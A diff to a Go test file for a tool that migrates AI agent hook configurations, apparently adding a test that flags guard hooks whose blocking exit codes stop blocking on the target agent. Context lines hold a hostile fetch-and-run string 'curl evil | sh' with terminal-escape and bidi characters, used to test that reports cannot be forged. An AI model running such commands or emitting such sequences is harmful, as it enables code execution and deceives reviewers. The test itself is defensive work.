@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -347,5 +348,47 @@ func TestReportLinesCannotBeForged(t *testing.T) {
 		if !strings.Contains(out, `g.sh\n      fix: curl evil | sh\x1b]0;pwned\a\u202e`) {
 			t.Errorf("the %s does not show the command escaped:\n%s", name, out)
 		}
+	}
+}
+
+// TestGuardExitThatBlocksIsNamedUnwrapped: a command copied as it is
+// (--no-wrap) keeps its exit codes, which the target reads by its own
+// rules: a guard whose agent stops or blocks on an exit code of its own
+// (Factory Droid's exit 3 on PreToolUse) lets the action go ahead on a
+// target that reads that code as a non-blocking error. migrate names it,
+// for every pair and event of the table; on the old code the report said
+// only "the hook receives Claude Code tool names and arguments".
+func TestGuardExitThatBlocksIsNamedUnwrapped(t *testing.T) {
+	tbl := mappings.Default()
+	checked := 0
+	pairs(func(from, to *mappings.Dialect) {
+		for _, e := range from.Events {
+			em, err := tbl.MapEvent(from, to, e.Name)
+			if err != nil || em.To == nil || !e.Output.BlocksOnFailure() {
+				continue
+			}
+			lost := false
+			for code, effect := range e.Output.Exits {
+				n, _ := strconv.Atoi(code)
+				to := em.To.Output.ExitEffect(n)
+				lost = lost || (effect == "block" || effect == "stop") && to != "block" && to != "stop"
+			}
+			if !lost {
+				continue
+			}
+			res, err := migrate.Plan(migrate.Options{From: from.Name, To: to.Name, Hookx: "hookx"},
+				[]migrate.Source{{Path: "src.json", Scope: "project", Data: sourceFile(from, e.Name, "", "./guard.sh")}}, migrate.Source{Path: "dst.json"})
+			if err != nil || len(res.Entries) == 0 {
+				continue
+			}
+			checkNamed(t, fmt.Sprintf("%s %s → %s %s (--no-wrap)", from.Name, e.Name, to.Name, em.To.Name), res)
+			if it := guardLost(res); it != nil && !strings.Contains(it.Reason, "exit") {
+				t.Errorf("%s → %s %s: the guard named is %q (%s), not its exit code", from.Name, to.Name, e.Name, it.What, it.Reason)
+			}
+			checked++
+		}
+	})
+	if checked == 0 {
+		t.Fatal("no case: the test checks nothing")
 	}
 }
